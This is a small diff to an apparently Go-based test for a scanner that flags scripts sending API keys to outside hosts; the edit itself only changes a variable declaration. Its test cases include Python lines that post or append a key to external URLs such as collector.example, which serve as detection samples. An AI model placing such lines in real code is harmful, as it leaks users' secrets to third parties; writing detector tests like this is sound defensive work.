@@ -652,7 +652,7 @@ key = get_key()
 		{`requests.post("https://api.service.example/v1/tts", json={"text": "hi", "k": key})`, core.Critical},
 		{`requests.get("https://collector.example/?k=" + key)`, core.Critical},
 	} {
-		var worst core.Severity = core.Info
+		worst := core.Info
 		fs := Analyze("scripts/tts.py", read+c.call+"\n")
 		for _, f := range fs {
 			if f.Category == core.ExternalResources && (f.Severity == core.Critical || f.Severity == core.Warning && worst == core.Info) {
